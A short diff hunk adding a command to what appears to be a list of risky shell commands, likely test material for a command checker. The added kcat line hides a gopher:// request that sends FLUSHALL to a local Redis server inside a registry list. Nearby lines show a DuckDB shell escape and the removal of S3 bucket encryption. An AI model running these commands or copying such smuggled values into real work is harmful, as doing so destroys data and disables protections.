@@ -476,3 +476,6 @@ aws sso get-role-credentials --role-name ReadOnly --account-id 123456789012 --ac
 aws cloudcontrol update-resource --type-name AWS::S3::Bucket --identifier acme-logs --patch-document '[{"op":"remove","path":"/BucketEncryption"}]'
 
 duckdb -c ".shell touch pwned"
+
+# libserdes takes a list of registries, and libcurl speaks gopher.
+kcat -b kafka-1.internal:9092 -C -t order-events -s value=avro -r 'http://schema-registry.internal:8081,gopher://127.0.0.1:6379/_FLUSHALL' -e
